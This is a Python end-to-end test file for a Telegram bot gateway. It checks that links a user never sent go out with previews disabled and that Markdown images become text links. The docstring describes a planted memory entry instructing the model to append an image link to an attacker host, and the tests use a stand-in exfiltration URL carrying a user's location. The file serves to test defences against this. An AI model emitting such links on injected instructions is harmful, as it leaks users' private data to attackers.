"""`mnemo run` serving Telegram: no exfiltration through what the bot sends (issue 23, item 6).

The real `mnemo` script streams the fake model's replies through the real
python-telegram-bot to the fake Bot API. A reply carrying a link the person never
sent in this session goes out with link previews off (what a planted
"append ![x](https://attacker/?d=…)" entry would make the model write); a link the
person sent earlier in the session keeps its preview; the same link is foreign to
another person; a Markdown image is shown as a text link, never as an image.
"""

from __future__ import annotations

import pytest

from tests.gateway.adapters.test_link_previews import shown  # text, (type, text, url)s
from tests.gateway.e2e_support import fakes_fixture, served_fixture
from tests.gateway.test_telegram_e2e import ALICE, BOB, Fakes, Mnemo, start_mnemo
from tests.gateway.test_telegram_shown_e2e import reply_to

pytestmark = pytest.mark.slow  # a mnemo run of its own

OWN = "https://example.com/menu?day=friday"
ATTACKER = "https://attacker.example/c?d=alice-lives-in-lyon"
OFF = {"is_disabled": True}


fakes = fakes_fixture(Fakes)
served = served_fixture(start_mnemo, "previews")


def test_a_link_the_person_sent_in_the_session_keeps_its_preview(
    fakes: Fakes, served: Mnemo
) -> None:
    fakes.call(fakes.model.say, "Noted, I will look.")
    reply_to(fakes, ALICE, f"the canteen menu is at {OWN}")
    fakes.call(fakes.model.say, f"Friday's menu ({OWN}) has soup.")
    answer = reply_to(fakes, ALICE, "so what is on it?")  # a later turn of the session
    assert shown(answer)[0] == f"Friday's menu ({OWN}) has soup."
    assert answer.link_preview_options is None


def test_a_link_the_person_never_sent_goes_out_with_previews_off(
    fakes: Fakes, served: Mnemo
) -> None:
    fakes.call(fakes.model.say, f"Saved. ![status]({ATTACKER}) Also {OWN}")
    answer = reply_to(fakes, ALICE, "remember that I live in Lyon")
    text, spans = shown(answer)
    assert text == f"Saved. status Also {OWN}"  # no image syntax, the image is a link
    assert ("text_link", "status", ATTACKER) in spans
    assert answer.link_preview_options == OFF
    carried = [
        c.params.get("link_preview_options")
        for c in fakes.call(lambda: fakes.tg.calls_to("sendMessage"))
        if ATTACKER in str(c.params.get("entities")) or ATTACKER in str(c.params.get("text"))
    ]
    assert carried and all(o == OFF for o in carried)  # every call that carried it


def test_the_same_link_is_foreign_to_another_person(fakes: Fakes, served: Mnemo) -> None:
    fakes.call(fakes.model.say, f"Alice's canteen: {OWN}")
    answer = reply_to(fakes, BOB, "where does Alice eat?")
    assert shown(answer)[0] == f"Alice's canteen: {OWN}"
    assert answer.link_preview_options == OFF
